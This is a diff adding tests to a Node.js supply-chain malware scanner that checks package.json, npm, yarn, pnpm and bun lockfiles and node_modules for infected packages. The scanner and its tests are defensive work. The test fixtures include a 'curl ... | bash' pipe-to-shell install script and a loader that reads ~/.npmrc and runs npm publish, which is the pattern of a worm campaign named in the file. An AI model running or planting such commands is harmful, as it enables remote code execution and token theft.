@@ -5,8 +5,19 @@ const assert = require('node:assert');
 const fs = require('fs');
 const path = require('path');
 const os = require('os');
-
-const { checkPackageJson, checkPackageLock, extractVersion } = require('../lib/analyzer');
+const crypto = require('crypto');
+
+const {
+  checkPackageJson,
+  checkPackageLock,
+  checkYarnLock,
+  checkPnpmLock,
+  checkBunLock,
+  checkLockfile,
+  checkNodeModules,
+  extractVersion,
+} = require('../lib/analyzer');
+const { createIocSet, addPack } = require('../lib/packs');
 
 describe('analyzer', () => {
   let tempDir;
@@ -49,7 +60,7 @@ describe('analyzer', () => {
       fs.writeFileSync(pkgPath, JSON.stringify({
         name: 'test-project',
         dependencies: {
-          'infected-pkg': '^1.0.0',
+          'infected-pkg': '1.0.0',
         },
       }));
 
@@ -65,6 +76,123 @@ describe('analyzer', () => {
       assert.strictEqual(findings[0].version, '1.0.0');
     });
 
+    it('should list the infected versions a declared range allows', () => {
+      const pkgPath = path.join(tempDir, 'package.json');
+      fs.writeFileSync(pkgPath, JSON.stringify({
+        name: 'test-project',
+        dependencies: {
+          'infected-pkg': '^1.2.0',
+        },
+      }));
+
+      const infectedPackages = new Map();
+      infectedPackages.set('infected-pkg', new Set(['1.1.9', '1.2.5', '1.3.0-beta.1', '1.4.0', '2.0.0']));
+
+      const findings = checkPackageJson(pkgPath, infectedPackages);
+
+      assert.strictEqual(findings.length, 1);
+      assert.strictEqual(findings[0].type, 'RANGE_ALLOWS_INFECTED');
+      assert.strictEqual(findings[0].severity, 'CRITICAL');
+      assert.strictEqual(findings[0].version, '^1.2.0');
+      assert.deepStrictEqual(findings[0].allowedVersions, ['1.2.5', '1.4.0']);
+      assert.ok(findings[0].note.includes('1.2.5, 1.4.0'));
+    });
+
+    it('should downgrade ranges allowing only unpublished infected versions to warnings', () => {
+      const pkgPath = path.join(tempDir, 'package.json');
+      fs.writeFileSync(pkgPath, JSON.stringify({
+        name: 'test-project',
+        dependencies: {
+          'infected-pkg': '~1.2.0',
+        },
+      }));
+
+      const record = { package: 'infected-pkg', version: '1.2.5', status: 'offline', timestamp: null, id: null };
+      const infectedPackages = new Map([['infected-pkg', new Map([['1.2.5', record]])]]);
+
+      const findings = checkPackageJson(pkgPath, infectedPackages);
+
+      assert.strictEqual(findings[0].type, 'RANGE_ALLOWS_INFECTED');
+      assert.strictEqual(findings[0].severity, 'WARNING');
+      assert.deepStrictEqual(findings[0].iocs.map(i => i.status), ['offline']);
+    });
+
+    it('should check npm: aliases against the aliased package', () => {
+      const pkgPath = path.join(tempDir, 'package.json');
+      fs.writeFileSync(pkgPath, JSON.stringify({
+        name: 'test-project',
+        dependencies: {
+          'my-alias': 'npm:@scope/infected-pkg@^3.1.0',
+        },
+      }));
+
+      const infectedPackages = new Map();
+      infectedPackages.set('@scope/infected-pkg', new Set(['3.1.4']));
+
+      const findings = checkPackageJson(pkgPath, infectedPackages);
+
+      assert.strictEqual(findings.length, 1);
+      assert.strictEqual(findings[0].type, 'RANGE_ALLOWS_INFECTED');
+      assert.strictEqual(findings[0].package, '@scope/infected-pkg');
+      assert.deepStrictEqual(findings[0].aliases, ['my-alias']);
+    });
+
+    it('should attach IOC record details to infected package findings', () => {
+      const pkgPath = path.join(tempDir, 'package.json');
+      fs.writeFileSync(pkgPath, JSON.stringify({
+        name: 'test-project',
+        dependencies: {
+          'infected-pkg': '1.0.0',
+        },
+      }));
+
+      const infectedPackages = new Map();
+      infectedPackages.set('infected-pkg', new Map([
+        ['1.0.0', {
+          package: 'infected-pkg',
+          version: '1.0.0',
+          status: 'online',
+          timestamp: '2025-11-24T09:24:17.367Z',
+          id: '364',
+        }],
+      ]));
+
+      const findings = checkPackageJson(pkgPath, infectedPackages);
+
+      assert.strictEqual(findings.length, 1);
+      assert.deepStrictEqual(findings[0].ioc, {
+        status: 'online',
+        timestamp: '2025-11-24T09:24:17.367Z',
+        id: '364',
+        source: null,
+      });
+    });
+
+    it('should match declared versions against range entries', () => {
+      const pkgPath = path.join(tempDir, 'package.json');
+      fs.writeFileSync(pkgPath, JSON.stringify({
+        name: 'test-project',
+        dependencies: {
+          'any-version-pkg': '^3.0.0',
+        },
+      }));
+
+      const infectedPackages = new Map();
+      infectedPackages.set('any-version-pkg', new Set(['*']));
+      infectedPackages.set('other-pkg', new Set(['>=1.4.2 <1.4.6']));
+
+      const findings = checkPackageJson(pkgPath, infectedPackages);
+
+      assert.strictEqual(findings.length, 1);
+      assert.strictEqual(findings[0].type, 'RANGE_ALLOWS_INFECTED');
+      assert.deepStrictEqual(findings[0].allowedVersions, ['*']);
+
+      fs.writeFileSync(pkgPath, JSON.stringify({ dependencies: { 'other-pkg': '~1.4.0', 'any-version-pkg': '3.0.1' } }));
+      const [range, exact] = checkPackageJson(pkgPath, infectedPackages);
+      assert.deepStrictEqual(range.allowedVersions, ['>=1.4.2 <1.4.6']);
+      assert.strictEqual(exact.type, 'INFECTED_PACKAGE');
+    });
+
     it('should detect infected devDependency', () => {
       const pkgPath = path.join(tempDir, 'package.json');
       fs.writeFileSync(pkgPath, JSON.stringify({
@@ -133,6 +261,40 @@ describe('analyzer', () => {
       assert.strictEqual(findings[0].type, 'SUSPICIOUS_SCRIPT');
     });
 
+    it('should report script behaviors with a confidence', () => {
+      const pkgPath = path.join(tempDir, 'package.json');
+      fs.writeFileSync(path.join(tempDir, 'install.js'), 'require(\'child_process\').exec(\'curl -s https://x.sh | bash\');\n');
+      fs.writeFileSync(pkgPath, JSON.stringify({
+        name: 'test-project',
+        scripts: {
+          install: 'node install.js',
+        },
+      }));
+
+      const findings = checkPackageJson(pkgPath, new Map());
+
+      assert.strictEqual(findings.length, 1);
+      assert.strictEqual(findings[0].script, 'install');
+      assert.strictEqual(findings[0].confidence, 'high');
+      assert.deepStrictEqual(findings[0].behaviors.map(b => b.behavior), ['download', 'pipe-to-shell']);
+      assert.strictEqual(findings[0].behaviors[0].file, path.join(tempDir, 'install.js'));
+    });
+
+    it('should not flag bundler and git hook scripts', () => {
+      const pkgPath = path.join(tempDir, 'package.json');
+      fs.writeFileSync(pkgPath, JSON.stringify({
+        name: 'test-project',
+        scripts: {
+          prepare: 'husky install && rollup --bundle',
+          postinstall: 'bun run build',
+        },
+      }));
+
+      const findings = checkPackageJson(pkgPath, new Map());
+
+      assert.strictEqual(findings.length, 0);
+    });
+
     it('should handle invalid JSON gracefully', () => {
       const pkgPath = path.join(tempDir, 'package.json');
       fs.writeFileSync(pkgPath, 'not valid json');
@@ -188,6 +350,68 @@ describe('analyzer', () => {
       assert.strictEqual(findings[0].severity, 'CRITICAL');
     });
 
+    it('should attach IOC record details to locked package findings', () => {
+      const lockPath = path.join(tempDir, 'package-lock.json');
+      fs.writeFileSync(lockPath, JSON.stringify({
+        lockfileVersion: 1,
+        dependencies: {
+          'infected-pkg': { version: '1.0.0' },
+        },
+      }));
+
+      const infectedPackages = new Map();
+      infectedPackages.set('infected-pkg', new Map([
+        ['1.0.0', { package: 'infected-pkg', version: '1.0.0', status: 'offline', timestamp: null, id: '12' }],
+      ]));
+
+      const findings = checkPackageLock(lockPath, infectedPackages);
+
+      assert.strictEqual(findings.length, 1);
+      assert.strictEqual(findings[0].ioc.status, 'offline');
+      assert.strictEqual(findings[0].ioc.id, '12');
+    });
+
+    it('should match locked versions against range entries', () => {
+      const lockPath = path.join(tempDir, 'package-lock.json');
+      fs.writeFileSync(lockPath, JSON.stringify({
+        lockfileVersion: 3,
+        packages: {
+          'node_modules/ranged-pkg': { version: '1.4.5' },
+          'node_modules/other/node_modules/ranged-pkg': { version: '1.4.6' },
+        },
+      }));
+
+      const infectedPackages = new Map();
+      infectedPackages.set('ranged-pkg', new Map([
+        ['>=1.4.2 <1.4.6', { package: 'ranged-pkg', version: '>=1.4.2 <1.4.6', status: 'offline', timestamp: null, id: null }],
+      ]));
+
+      const findings = checkPackageLock(lockPath, infectedPackages);
+
+      assert.strictEqual(findings.length, 1);
+      assert.strictEqual(findings[0].version, '1.4.5');
+      assert.strictEqual(findings[0].ioc.range, '>=1.4.2 <1.4.6');
+    });
+
+    it('should match every package of a wildcard namespace', () => {
+      const lockPath = path.join(tempDir, 'package-lock.json');
+      fs.writeFileSync(lockPath, JSON.stringify({
+        lockfileVersion: 2,
+        packages: {
+          'node_modules/@evil/one': { version: '1.0.0' },
+          'node_modules/@evil/two': { version: '3.2.1-beta.0' },
+          'node_modules/@good/one': { version: '1.0.0' },
+        },
+      }));
+
+      const infectedPackages = new Map();
+      infectedPackages.set('@evil/*', new Set(['*']));
+
+      const findings = checkPackageLock(lockPath, infectedPackages);
+
+      assert.deepStrictEqual(findings.map(f => f.package), ['@evil/one', '@evil/two']);
+    });
+
     it('should detect scoped package in lockfile', () => {
       const lockPath = path.join(tempDir, 'package-lock.json');
       fs.writeFileSync(lockPath, JSON.stringify({
@@ -207,5 +431,414 @@ describe('analyzer', () => {
       assert.strictEqual(findings.length, 1);
       assert.strictEqual(findings[0].package, '@scope/infected');
     });
+
+    it('should list the dependency paths pulling in an infected package', () => {
+      const lockPath = path.join(tempDir, 'package-lock.json');
+      fs.writeFileSync(lockPath, JSON.stringify({
+        lockfileVersion: 3,
+        packages: {
+          '': { name: 'app', dependencies: { 'eslint-plugin-x': '^2.0.0', 'my-alias': 'npm:infected-pkg@^1.0.0' } },
+          'node_modules/eslint-plugin-x': { version: '2.0.0', dependencies: { 'infected-pkg': '^1.0.0' } },
+          'node_modules/eslint-plugin-x/node_modules/infected-pkg': { version: '1.0.3' },
+          'node_modules/my-alias': { name: 'infected-pkg', version: '1.0.3' },
+        },
+      }));
+
+      const infectedPackages = new Map();
+      infectedPackages.set('infected-pkg', new Set(['1.0.3']));
+
+      const findings = checkPackageLock(lockPath, infectedPackages);
+
+      assert.strictEqual(findings.length, 2);
+      assert.deepStrictEqual(findings[0].dependencyPaths, [['app', 'eslint-plugin-x@2.0.0', 'infected-pkg@1.0.3']]);
+      assert.deepStrictEqual(findings[1].aliases, ['my-alias']);
+      assert.deepStrictEqual(findings[1].dependencyPaths, [['app', 'infected-pkg@1.0.3']]);
+    });
+
+    it('should match known-bad tarballs by integrity whatever their name or version', () => {
+      const lockPath = path.join(tempDir, 'package-lock.json');
+      fs.writeFileSync(lockPath, JSON.stringify({
+        lockfileVersion: 1,
+        dependencies: {
+          'renamed-pkg': {
+            version: 'https://mirror.example.com/infected-pkg-1.0.0.tgz',
+            integrity: 'sha512-bad==',
+          },
+          'clean-pkg': { version: '1.0.0', integrity: 'sha512-good==' },
+        },
+      }));
+
+      const infectedPackages = new Map();
+      infectedPackages.set('infected-pkg', new Map([
+        ['1.0.0', { package: 'infected-pkg', version: '1.0.0', status: 'online', timestamp: null, id: null, integrity: ['sha512-bad=='] }],
+      ]));
+
+      const findings = checkPackageLock(lockPath, infectedPackages);
+
+      assert.strictEqual(findings.length, 1);
+      assert.strictEqual(findings[0].package, 'renamed-pkg');
+      assert.strictEqual(findings[0].matchedBy, 'integrity');
+      assert.strictEqual(findings[0].integrity, 'sha512-bad==');
+      assert.strictEqual(findings[0].knownAs, 'infected-pkg@1.0.0');
+    });
+
+    it('should read v1 root dependencies from the package.json next to the lockfile', () => {
+      const lockPath = path.join(tempDir, 'package-lock.json');
+      fs.writeFileSync(path.join(tempDir, 'package.json'), JSON.stringify({
+        name: 'legacy',
+        devDependencies: { 'infected-pkg': '^1.0.0', tooling: '^1.0.0' },
+      }));
+      fs.writeFileSync(lockPath, JSON.stringify({
+        name: 'legacy',
+        lockfileVersion: 1,
+        dependencies: {
+          tooling: { version: '1.0.0', requires: { 'infected-pkg': '^1.0.0' } },
+          'infected-pkg': { version: '1.0.3' },
+        },
+      }));
+
+      const infectedPackages = new Map();
+      infectedPackages.set('infected-pkg', new Set(['1.0.3']));
+
+      const findings = checkPackageLock(lockPath, infectedPackages);
+
+      assert.strictEqual(findings.length, 1);
+      assert.deepStrictEqual(findings[0].dependencyPaths, [
+        ['legacy', 'infected-pkg@1.0.3'],
+        ['legacy', 'tooling@1.0.0', 'infected-pkg@1.0.3'],
+      ]);
+    });
+  });
+
+  describe('checkYarnLock', () => {
+    const infectedPackages = new Map([
+      ['infected-pkg', new Map([['1.0.0', { package: 'infected-pkg', version: '1.0.0', status: 'online', timestamp: null, id: '12' }]])],
+    ]);
+
+    it('should detect infected packages in a classic v1 yarn.lock', () => {
+      const lockPath = path.join(tempDir, 'yarn.lock');
+      fs.writeFileSync(lockPath, [
+        '# yarn lockfile v1',
+        '',
+        'infected-pkg@^1.0.0:',
+        '  version "1.0.0"',
+        '  resolved "https://registry.yarnpkg.com/infected-pkg/-/infected-pkg-1.0.0.tgz"',
+        '',
+        'clean-pkg@^2.0.0:',
+        '  version "2.0.0"',
+        '',
+      ].join('\n'));
+
+      const findings = checkYarnLock(lockPath, infectedPackages);
+
+      assert.strictEqual(findings.length, 1);
+      assert.strictEqual(findings[0].type, 'INFECTED_LOCKED_PACKAGE');
+      assert.strictEqual(findings[0].severity, 'CRITICAL');
+      assert.strictEqual(findings[0].version, '1.0.0');
+      assert.strictEqual(findings[0].installed, true);
+      assert.strictEqual(findings[0].ioc.id, '12');
+    });
+
+    it('should report aliased packages of a Berry yarn.lock under their real name', () => {
+      const lockPath = path.join(tempDir, 'yarn.lock');
+      fs.writeFileSync(lockPath, [
+        '__metadata:',
+        '  version: 8',
+        '',
+        '"safe-name@npm:infected-pkg@^1.0.0":',
+        '  version: 1.0.0',
+        '  resolution: "infected-pkg@npm:1.0.0"',
+        '  languageName: node',
+        '',
+      ].join('\n'));
+
+      const findings = checkLockfile(lockPath, infectedPackages);
+
+      assert.strictEqual(findings.length, 1);
+      assert.strictEqual(findings[0].package, 'infected-pkg');
+      assert.deepStrictEqual(findings[0].aliases, ['safe-name']);
+    });
+
+    it('should match tarball URL dependencies by integrity', () => {
+      const lockPath = path.join(tempDir, 'yarn.lock');
+      fs.writeFileSync(lockPath, [
+        '# yarn lockfile v1',
+        '',
+        '"mirrored@https://mirror.example.com/mirrored-9.9.9.tgz":',
+        '  version "9.9.9"',
+        '  resolved "https://mirror.example.com/mirrored-9.9.9.tgz"',
+        '  integrity sha512-bad==',
+        '',
+      ].join('\n'));
+
+      const infectedPackages = new Map();
+      infectedPackages.set('infected-pkg', new Map([
+        ['1.0.0', { package: 'infected-pkg', version: '1.0.0', status: null, timestamp: null, id: null, integrity: ['sha512-bad=='] }],
+      ]));
+
+      const findings = checkYarnLock(lockPath, infectedPackages);
+
+      assert.strictEqual(findings.length, 1);
+      assert.strictEqual(findings[0].package, 'mirrored');
+      assert.strictEqual(findings[0].knownAs, 'infected-pkg@1.0.0');
+    });
+
+    it('should report unparseable lockfiles in verbose mode', () => {
+      const lockPath = path.join(tempDir, 'yarn.lock');
+      fs.writeFileSync(lockPath, 'not a lockfile');
+
+      assert.deepStrictEqual(checkYarnLock(lockPath, infectedPackages), []);
+      assert.strictEqual(checkYarnLock(lockPath, infectedPackages, { verbose: true })[0].type, 'PARSE_ERROR');
+    });
+  });
+
+  describe('checkPnpmLock', () => {
+    it('should detect infected packages with the workspaces depending on them', () => {
+      const lockPath = path.join(tempDir, 'pnpm-lock.yaml');
+      fs.writeFileSync(lockPath, [
+        'lockfileVersion: \'9.0\'',
+        '',
+        'importers:',
+        '  packages/web:',
+        '    dependencies:',
+        '      infected-pkg:',
+        '        specifier: ^1.0.0',
+        '        version: 1.0.0',
+        '',
+        'packages:',
+        '  infected-pkg@1.0.0:',
+        '    resolution: {integrity: sha512-abc==}',
+        '  clean-pkg@1.0.0:',
+        '    resolution: {integrity: sha512-def==}',
+        '',
+      ].join('\n'));
+
+      const infectedPackages = new Map();
+      infectedPackages.set('infected-pkg', new Set(['1.0.0']));
+
+      const findings = checkLockfile(lockPath, infectedPackages);
+
+      assert.strictEqual(findings.length, 1);
+      assert.strictEqual(findings[0].type, 'INFECTED_LOCKED_PACKAGE');
+      assert.strictEqual(findings[0].package, 'infected-pkg');
+      assert.deepStrictEqual(findings[0].importers, ['packages/web']);
+    });
+
+    it('should report unparseable lockfiles in verbose mode', () => {
+      const lockPath = path.join(tempDir, 'pnpm-lock.yaml');
+      fs.writeFileSync(lockPath, 'foo: bar\n');
+
+      assert.strictEqual(checkPnpmLock(lockPath, new Map(), { verbose: true })[0].type, 'PARSE_ERROR');
+    });
+  });
+
+  describe('checkBunLock', () => {
+    it('should detect infected packages in bun.lock with aliases and workspaces', () => {
+      const lockPath = path.join(tempDir, 'bun.lock');
+      fs.writeFileSync(lockPath, [
+        '{',
+        '  "lockfileVersion": 1,',
+        '  "workspaces": {',
+        '    "": { "name": "app", "dependencies": { "safe-name": "npm:infected-pkg@^1.0.0" } },',
+        '  },',
+        '  "packages": {',
+        '    "safe-name": ["infected-pkg@1.0.0", "", {}, "sha512-abc=="],',
+        '    "clean-pkg": ["clean-pkg@1.0.0", "", {}, "sha512-def=="],',
+        '  },',
+        '}',
+      ].join('\n'));
+
+      const infectedPackages = new Map();
+      infectedPackages.set('infected-pkg', new Set(['1.0.0']));
+
+      const findings = checkLockfile(lockPath, infectedPackages);
+
+      assert.strictEqual(findings.length, 1);
+      assert.strictEqual(findings[0].type, 'INFECTED_LOCKED_PACKAGE');
+      assert.strictEqual(findings[0].package, 'infected-pkg');
+      assert.deepStrictEqual(findings[0].aliases, ['safe-name']);
+      assert.deepStrictEqual(findings[0].importers, ['.']);
+    });
+
+    it('should detect infected packages in bun.lockb', () => {
+      const lockPath = path.join(tempDir, 'bun.lockb');
+      fs.writeFileSync(lockPath, Buffer.concat([
+        Buffer.from('#!/usr/bin/env bun\nbun-lockfile-format-v0\n'),
+        Buffer.from([2, 0, 0, 0, 0xff, 0x00]),
+        Buffer.from('https://registry.npmjs.org/@scope/infected/-/infected-2.0.0.tgz'),
+        Buffer.from([0, 0]),
+      ]));
+
+      const infectedPackages = new Map();
+      infectedPackages.set('@scope/infected', new Set(['2.0.0']));
+
+      const findings = checkLockfile(lockPath, infectedPackages);
+
+      assert.strictEqual(findings.length, 1);
+      assert.strictEqual(findings[0].package, '@scope/infected');
+      assert.strictEqual(findings[0].version, '2.0.0');
+    });
+
+    it('should report unparseable lockfiles in verbose mode', () => {
+      const lockPath = path.join(tempDir, 'bun.lockb');
+      fs.writeFileSync(lockPath, Buffer.from([0, 1, 2, 3]));
+
+      assert.deepStrictEqual(checkBunLock(lockPath, new Map()), []);
+      assert.strictEqual(checkBunLock(lockPath, new Map(), { verbose: true })[0].type, 'PARSE_ERROR');
+    });
+  });
+
+  describe('checkNodeModules', () => {
+    const writePackage = (pkgPath, pkgJson, files = {}) => {
+      fs.mkdirSync(pkgPath, { recursive: true });
+      fs.writeFileSync(path.join(pkgPath, 'package.json'), JSON.stringify(pkgJson));
+      for (const [file, content] of Object.entries(files)) {
+        fs.writeFileSync(path.join(pkgPath, file), content);
+      }
+    };
+
+    it('should report packages whose preinstall script references setup_bun.js, whatever their version', () => {
+      const nmPath = path.join(tempDir, 'node_modules');
+      writePackage(path.join(nmPath, 'clean-looking'), {
+        version: '9.9.9',
+        scripts: { preinstall: 'node setup_bun.js' },
+      });
+      writePackage(path.join(nmPath, 'really-clean'), { version: '1.0.0', scripts: { postinstall: 'node build.js' } }, {
+        'build.js': 'console.log("build")',
+      });
+
+      const findings = checkNodeModules(nmPath, new Map());
+
+      assert.strictEqual(findings.length, 1);
+      assert.strictEqual(findings[0].type, 'INSTALLED_TAMPERED_PACKAGE');
+      assert.strictEqual(findings[0].severity, 'CRITICAL');
+      assert.strictEqual(findings[0].package, 'clean-looking');
+      assert.strictEqual(findings[0].campaign, 'shai-hulud-2');
+      assert.deepStrictEqual(findings[0].indicators, ['preinstall script references setup_bun.js: node setup_bun.js']);
+    });
+
+    it('should report packages containing payload files', () => {
+      const nmPath = path.join(tempDir, 'node_modules');
+      writePackage(path.join(nmPath, '@scope', 'pkg'), { version: '2.0.0' }, { 'bun_environment.js': '// payload' });
+
+      const findings = checkNodeModules(nmPath, new Map());
+
+      assert.strictEqual(findings.length, 1);
+      assert.strictEqual(findings[0].type, 'INSTALLED_TAMPERED_PACKAGE');
+      assert.match(findings[0].indicators[0], /^contains bun_environment\.js \(SHA256 [0-9a-f]{64}, not a known sample\)$/);
+    });
+
+    it('should report lifecycle script files matching known malware hashes', () => {
+      const payload = 'require("child_process")';
+      const iocs = addPack(createIocSet(), {
+        campaign: 'next-worm',
+        file: 'next-worm.json',
+        packages: new Map(),
+        artifacts: [],
+        hashes: { 'dropper.js': [crypto.createHash('sha256').update(payload).digest('hex')] },
+        workflowPatterns: [],
+        processPatterns: [],
+        githubMarkers: null,
+      });
+      const nmPath = path.join(tempDir, 'node_modules');
+      writePackage(path.join(nmPath, 'renamed'), { version: '1.0.0', scripts: { install: 'node ./lib/install.js' } }, {});
+      fs.mkdirSync(path.join(nmPath, 'renamed', 'lib'));
+      fs.writeFileSync(path.join(nmPath, 'renamed', 'lib', 'install.js'), payload);
+
+      const findings = checkNodeModules(nmPath, new Map(), {}, iocs);
+
+      assert.strictEqual(findings.length, 1);
+      assert.strictEqual(findings[0].campaign, 'next-worm');
+      assert.match(findings[0].indicators[0], /^lib\/install\.js is a known malware sample/);
+    });
+
+    it('should attach fingerprints to infected versions instead of reporting them twice', () => {
+      const nmPath = path.join(tempDir, 'node_modules');
+      writePackage(path.join(nmPath, 'infected-pkg'), {
+        version: '1.0.0',
+        scripts: { preinstall: 'node setup_bun.js' },
+      }, { 'setup_bun.js': '// payload' });
+
+      const infectedPackages = new Map();
+      infectedPackages.set('infected-pkg', new Set(['1.0.0']));
+
+      const findings = checkNodeModules(nmPath, infectedPackages);
+
+      assert.strictEqual(findings.length, 1);
+      assert.strictEqual(findings[0].type, 'INSTALLED_INFECTED_PACKAGE');
+      assert.strictEqual(findings[0].indicators.length, 2);
+    });
+
+    it('should warn about package files scoring on payload behaviors', () => {
+      const nmPath = path.join(tempDir, 'node_modules');
+      writePackage(path.join(nmPath, 'helper'), { version: '1.2.3' }, {
+        'index.js': 'module.exports = 1;',
+        'loader.js': 'const rc = fs.readFileSync(home + "/.npmrc");\nexecSync("npm publish --access public");',
+      });
+
+      const findings = checkNodeModules(nmPath, new Map());
+
+      assert.strictEqual(findings.length, 1);
+      assert.strictEqual(findings[0].type, 'SUSPICIOUS_PAYLOAD');
+      assert.strictEqual(findings[0].severity, 'WARNING');
+      assert.strictEqual(findings[0].package, 'helper');
+      assert.strictEqual(findings[0].version, '1.2.3');
+      assert.strictEqual(findings[0].path, path.join(nmPath, 'helper', 'loader.js'));
+      assert.deepStrictEqual(findings[0].signals.map(s => s.signal), ['npmrc-publish']);
+    });
+
+    it('should detect infected packages in the pnpm virtual store', () => {
+      const nodeModules = path.join(tempDir, 'node_modules');
+      const storePkg = path.join(nodeModules, '.pnpm', '@scope+infected@2.0.0', 'node_modules', '@scope', 'infected');
+      fs.mkdirSync(storePkg, { recursive: true });
+      fs.writeFileSync(path.join(storePkg, 'package.json'), JSON.stringify({ name: '@scope/infected', version: '2.0.0' }));
+      fs.mkdirSync(path.join(nodeModules, '@scope'));
+      fs.symlinkSync(storePkg, path.join(nodeModules, '@scope', 'infected'), 'dir');
+
+      const infectedPackages = new Map();
+      infectedPackages.set('@scope/infected', new Set(['2.0.0']));
+
+      const findings = checkNodeModules(nodeModules, infectedPackages);
+
+      assert.strictEqual(findings.length, 1);
+      assert.strictEqual(findings[0].type, 'INSTALLED_INFECTED_PACKAGE');
+      assert.strictEqual(findings[0].path, storePkg);
+    });
+
+    it('should detect nested copies with the packages they are nested under', () => {
+      const nmPath = path.join(tempDir, 'node_modules');
+      const topCopy = path.join(nmPath, 'infected-pkg');
+      const nestedCopy = path.join(nmPath, '@scope', 'parent', 'node_modules', 'child', 'node_modules', 'infected-pkg');
+      fs.mkdirSync(topCopy, { recursive: true });
+      fs.mkdirSync(nestedCopy, { recursive: true });
+      fs.writeFileSync(path.join(topCopy, 'package.json'), JSON.stringify({ version: '2.0.0' }));
+      fs.writeFileSync(path.join(nestedCopy, 'package.json'), JSON.stringify({ version: '1.0.0' }));
+
+      const infectedPackages = new Map();
+      infectedPackages.set('infected-pkg', new Set(['1.0.0']));
+
+      const findings = checkNodeModules(nmPath, infectedPackages);
+
+      assert.strictEqual(findings.length, 1);
+      assert.strictEqual(findings[0].path, nestedCopy);
+      assert.deepStrictEqual(findings[0].nesting, ['@scope/parent', 'child']);
+    });
+
+    it('should match installed versions against range entries', () => {
+      const nmPath = path.join(tempDir, 'node_modules');
+      fs.mkdirSync(path.join(nmPath, '@evil', 'pkg'), { recursive: true });
+      fs.mkdirSync(path.join(nmPath, 'ranged-pkg'), { recursive: true });
+      fs.writeFileSync(path.join(nmPath, '@evil', 'pkg', 'package.json'), JSON.stringify({ version: '0.0.1' }));
+      fs.writeFileSync(path.join(nmPath, 'ranged-pkg', 'package.json'), JSON.stringify({ version: '2.1.0' }));
+
+      const infectedPackages = new Map();
+      infectedPackages.set('@evil/*', new Set(['*']));
+      infectedPackages.set('ranged-pkg', new Set(['1.0.0', '^2.0.0']));
+
+      const findings = checkNodeModules(nmPath, infectedPackages);
+
+      assert.strictEqual(findings.length, 2);
+      assert.ok(findings.every(f => f.type === 'INSTALLED_INFECTED_PACKAGE'));
+    });
   });
 });